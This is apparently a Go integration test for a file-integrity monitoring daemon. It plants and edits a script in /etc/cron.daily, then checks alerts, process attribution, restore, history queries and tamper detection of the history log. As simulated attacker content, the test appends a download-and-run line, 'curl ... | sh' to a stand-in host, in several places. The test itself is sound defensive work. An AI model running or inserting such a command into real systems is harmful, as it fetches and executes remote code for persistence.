package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/testenv"
)

// TestHistoryStory is issue 5's story, with the daemon running: a script is created in
// /etc/cron.daily by mv and approved; chmod arms it; python3 edits it; tripline restore disarms it
// and puts its content back. The timeline shows the steps with their actors, the restore raises
// no alert, the queries find the steps, --diff shows the edit, and --verify catches an edited and
// a deleted history row.
func TestHistoryStory(t *testing.T) {
	testenv.RequireRoot(t)
	py := python(t)
	fx, src := newWatchFixture(t)
	payload := filepath.Join(src, "story-src")
	if err := os.WriteFile(payload, []byte("#!/bin/sh\necho nightly report\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	d := startWatch(t, fx, "")
	d.waitLog(t, "msg=ready")
	const logical = "/etc/cron.daily/story"
	target := fx.path("etc/cron.daily/story")

	// mv: the script appears whole, in one event (cp would create it empty, then write it).
	cpPID := act(t, "mv", payload, target)
	d.waitEvent(t, logical, func(e ecsEvent) bool { return e.Rule.ID == "file-created" })
	if r := tl(t, fx, "baseline", "accept", logical); r.code != 0 {
		t.Fatalf("accept: %d %s", r.code, r.stderr)
	}
	chmodPID := act(t, "chmod", "+x", target)
	d.waitEvent(t, logical, func(e ecsEvent) bool { return e.Rule.ID == "exec-bit-set" })
	pyPID := act(t, py, "-c", "import sys; open(sys.argv[1], 'a').write('curl -s http://example.invalid/x | sh\\n')", target)
	d.waitEvent(t, logical, func(e ecsEvent) bool { return e.Rule.ID == "content-changed" })

	r := tl(t, fx, "restore", logical)
	if r.code != 0 || !strings.Contains(r.stdout, "mode 0755 -> 0644") || !strings.Contains(r.stdout, "content") {
		t.Fatalf("restore: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if b, _ := os.ReadFile(target); string(b) != "#!/bin/sh\necho nightly report\n" {
		t.Errorf("restored content %q", b)
	}
	if st, _ := os.Stat(target); st.Mode().Perm() != 0o644 {
		t.Errorf("restored mode %v", st.Mode())
	}
	// The restore's own write is not an alert: after the daemon caught up (a later change is
	// seen), no line about the story script follows the content change.
	before := len(eventsFor(d.poll(t), logical))
	d.sync(t)
	if after := eventsFor(d.poll(t), logical); len(after) != before {
		t.Errorf("the daemon reported tripline's own restore: %v", after[before:])
	}
	d.stop(t)

	// The timeline, text: every step with its actor.
	r = tl(t, fx, "history", logical)
	if r.code != 0 {
		t.Fatalf("history: %d %s", r.code, r.stderr)
	}
	t.Logf("history %s:\n%s", logical, r.stdout)
	for _, want := range []string{
		"created file 0644", "pid " + strconv.Itoa(cpPID) + " /usr/bin/mv", "accepted into the baseline",
		"mode 0644 -> 0755", "exec-bit-set, high, alert", "pid " + strconv.Itoa(chmodPID),
		"content-changed", "pid " + strconv.Itoa(pyPID), "restore", "restored by tripline",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("timeline lacks %q", want)
		}
	}
	if !strings.Contains(r.stdout, "attribution kernel") && !strings.Contains(r.stdout, "attribution syscall") {
		t.Errorf("timeline names no attribution kernel or syscall")
	}
	// JSON: the same rows, in order.
	r = tl(t, fx, "history", "--format", "json", logical)
	var tj struct {
		Rows []struct {
			ID      int64  `json:"id"`
			Source  string `json:"source"`
			Rule    string `json:"rule"`
			Verdict string `json:"verdict"`
			Actor   *struct {
				Attribution string `json:"attribution"`
				PID         int    `json:"pid"`
			} `json:"actor"`
		} `json:"rows"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &tj); err != nil {
		t.Fatalf("history json: %v\n%s", err, r.stdout)
	}
	var steps []string
	for _, row := range tj.Rows {
		s := row.Source + ":" + row.Rule + ":" + row.Verdict
		if row.Actor != nil {
			s += fmt.Sprintf(":%d", row.Actor.PID)
		}
		steps = append(steps, s)
	}
	want := []string{
		fmt.Sprintf("event:file-created:alert:%d", cpPID), "accept::accepted",
		fmt.Sprintf("event:exec-bit-set:alert:%d", chmodPID), fmt.Sprintf("event:content-changed:alert:%d", pyPID),
		fmt.Sprintf("restore::restored:%d", 0),
	}
	if len(steps) != len(want) {
		t.Fatalf("json steps %v, want %v", steps, want)
	}
	for i := range want {
		if i == 4 {
			if !strings.HasPrefix(steps[i], "restore::restored:") {
				t.Errorf("step %d: %s, want a restore", i, steps[i])
			}
			continue
		}
		if steps[i] != want[i] {
			t.Errorf("step %d: %s, want %s", i, steps[i], want[i])
		}
	}

	// Queries over the same story.
	r = tl(t, fx, "history", "--since", "1h")
	if r.code != 0 || !strings.Contains(r.stdout, "pid "+strconv.Itoa(chmodPID)) || !strings.Contains(r.stdout, logical) {
		t.Errorf("--since 1h:\n%s%s", r.stdout, r.stderr)
	}
	r = tl(t, fx, "history", "--pid", strconv.Itoa(chmodPID))
	if r.code != 0 || !strings.Contains(r.stdout, "1 changes by 1 actors") || !strings.Contains(r.stdout, "mode 0644 -> 0755") {
		t.Errorf("--pid %d:\n%s%s", chmodPID, r.stdout, r.stderr)
	}
	r = tl(t, fx, "history", "--user", "root", "--location", "cron-periodic")
	if r.code != 0 || !strings.Contains(r.stdout, "pid "+strconv.Itoa(pyPID)) || !strings.Contains(r.stdout, "pid "+strconv.Itoa(cpPID)) {
		t.Errorf("--user root:\n%s%s", r.stdout, r.stderr)
	}
	r = tl(t, fx, "history", "--user", "4242")
	if r.code != 0 || !strings.Contains(r.stdout, "No recorded change matches") {
		t.Errorf("--user 4242:\n%s%s", r.stdout, r.stderr)
	}
	// --diff: the edit, as a unified diff; and the restore back.
	r = tl(t, fx, "history", "--diff", logical)
	if !strings.Contains(r.stdout, "+curl -s http://example.invalid/x | sh") || !strings.Contains(r.stdout, "-curl -s http://example.invalid/x | sh") {
		t.Errorf("--diff:\n%s%s", r.stdout, r.stderr)
	}
	if r := tl(t, fx, "show", logical+"@2"); r.stdout != "#!/bin/sh\necho nightly report\ncurl -s http://example.invalid/x | sh\n" {
		t.Errorf("show @2: %q %s", r.stdout, r.stderr)
	}

	// The chain: intact, then edited, then a row deleted.
	r = tl(t, fx, "history", "--verify")
	if r.code != 0 || !strings.Contains(r.stdout, "history chain intact") {
		t.Fatalf("--verify: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if _, err := exec.LookPath("sqlite3"); err != nil {
		testenv.SkipOrFail(t, "the sqlite3 shell is not installed")
	}
	edited := tj.Rows[2].ID
	sqlite := func(db, stmt string) {
		t.Helper()
		if out, err := exec.Command("sqlite3", db, stmt).CombinedOutput(); err != nil {
			t.Fatalf("sqlite3 %s: %v %s", stmt, err, out)
		}
	}
	copyDB := filepath.Join(t.TempDir(), "copy.db")
	sqlite(fx.db, ".backup "+copyDB)
	sqlite(fx.db, fmt.Sprintf("UPDATE history SET verdict = 'trusted' WHERE id = %d", edited))
	r = tl(t, fx, "history", "--verify")
	if r.code != 1 || !strings.Contains(r.stdout, fmt.Sprintf("BROKEN at row %d", edited)) || !strings.Contains(r.stdout, "edited") {
		t.Errorf("after an edit: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	deleted := tj.Rows[1].ID
	sqlite(copyDB, fmt.Sprintf("DELETE FROM history WHERE id = %d", deleted))
	fx2 := &fixture{root: fx.root, db: copyDB}
	r = tl(t, fx2, "history", "--verify")
	if r.code != 1 || !strings.Contains(r.stdout, fmt.Sprintf("BROKEN at row %d", deleted)) || !strings.Contains(r.stdout, "missing (deleted)") {
		t.Errorf("after a deletion: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}
